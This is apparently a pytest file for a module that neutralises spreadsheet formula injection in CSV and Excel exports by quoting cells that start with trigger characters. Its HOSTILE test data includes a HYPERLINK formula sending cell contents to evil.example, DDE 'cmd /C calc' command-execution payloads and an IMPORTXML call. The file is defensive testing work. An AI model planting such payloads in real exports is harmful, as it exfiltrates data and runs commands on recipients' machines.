"""handlers.runtime.cells: data-derived text never becomes a formula in a CSV or an Excel workbook."""

from __future__ import annotations

import csv
import io
import zipfile

import pandas as pd
import pytest
from openpyxl import load_workbook

from handlers.etl.report import workbook_bytes
from handlers.runtime.artifacts import serialize
from handlers.runtime.cells import ESCAPE, TRIGGERS, is_dangerous, neutralize, safe_frame

HOSTILE = [
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["plain", "", " =not at start", "a=b", "1.5", "é=", "'already quoted"]


@pytest.mark.parametrize("text", HOSTILE)
def test_every_trigger_character_is_escaped(text: str) -> None:
    assert is_dangerous(text)
    assert neutralize(text) == ESCAPE + text


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_is_unchanged(text: str) -> None:
    assert not is_dangerous(text) and neutralize(text) == text


@pytest.mark.parametrize("value", [-3, -3.5, 0, None, True, pd.Timestamp("2026-01-01")])
def test_non_text_values_are_unchanged(value: object) -> None:
    assert neutralize(value) is value


def test_the_trigger_set_is_owasps() -> None:
    assert set(TRIGGERS) == {"=", "+", "-", "@", "\t", "\r"}


@pytest.mark.parametrize("dtype", [object, "string", "category"])
def test_frame_text_columns_and_names_are_escaped_whatever_the_dtype(dtype: object) -> None:
    frame = pd.DataFrame({"=key": pd.Series([*HOSTILE, *HARMLESS], dtype=dtype),
                          "n": range(len(HOSTILE) + len(HARMLESS))})
    out = safe_frame(frame)
    assert list(out.columns) == ["'=key", "n"]
    assert [str(v) for v in out["'=key"]] == [ESCAPE + t for t in HOSTILE] + HARMLESS
    assert out["n"].tolist() == frame["n"].tolist()
    assert list(frame.columns) == ["=key", "n"], "the caller's frame is not modified"
    assert frame["=key"].astype(str).tolist()[0] == HOSTILE[0]


def test_object_column_with_missing_values_and_numbers() -> None:
    frame = pd.DataFrame({"x": pd.Series(["=1", None, -5, float("nan"), "ok"], dtype=object)})
    assert safe_frame(frame)["x"].tolist()[:3] == ["'=1", None, -5]


def test_numeric_columns_keep_negative_numbers() -> None:
    frame = pd.DataFrame({"v": [-1.25, 2.0]})
    body, _ = serialize("v.csv", frame)
    assert body == b"v\n-1.25\n2.0\n"


def test_artifact_csv_cells_read_back_as_text_not_formulas() -> None:
    frame = pd.DataFrame({"=HYPERLINK(1)": HOSTILE, "n": range(len(HOSTILE))})
    body, _ = serialize("hostile.csv", frame)
    rows = list(csv.reader(io.StringIO(body.decode())))
    assert rows[0] == ["'=HYPERLINK(1)", "n"]
    assert all(row[0].startswith(ESCAPE) for row in rows[1:])


def test_report_workbook_has_no_formula_cell_for_hostile_data_and_keys() -> None:
    aggregates = pd.DataFrame({"sensor_id": ["=evil()", "+x"], "=col": ["@SUM(A1)", "-1+1"], "count": [1, -2]})
    data = workbook_bytes({"=source": "=IMPORTXML(\"http://x\")", "rows": 2}, aggregates, group_column="sensor_id")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in archive.read(n) for n in sheets), "a cell was stored as a formula"
    book = load_workbook(io.BytesIO(data))
    texts = [cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
             if isinstance(cell.value, str)]
    assert "'=source" in texts and "'=IMPORTXML(\"http://x\")" in texts and "'=col" in texts
    assert "'@SUM(A1)" in texts and "'-1+1" in texts
    assert not [t for t in texts if is_dangerous(t)]
    numbers = [cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
               if isinstance(cell.value, int)]
    assert -2 in numbers


def test_a_carriage_return_inside_a_field_stays_in_its_row() -> None:
    frame = pd.DataFrame({"note": ["first\rline", "x\r\ny"], "n": [1, 2]})
    body, _ = serialize("notes.csv", frame)
    back = pd.read_csv(io.BytesIO(body))
    assert back["note"].tolist() == ["first\rline", "x\r\ny"] and back["n"].tolist() == [1, 2]
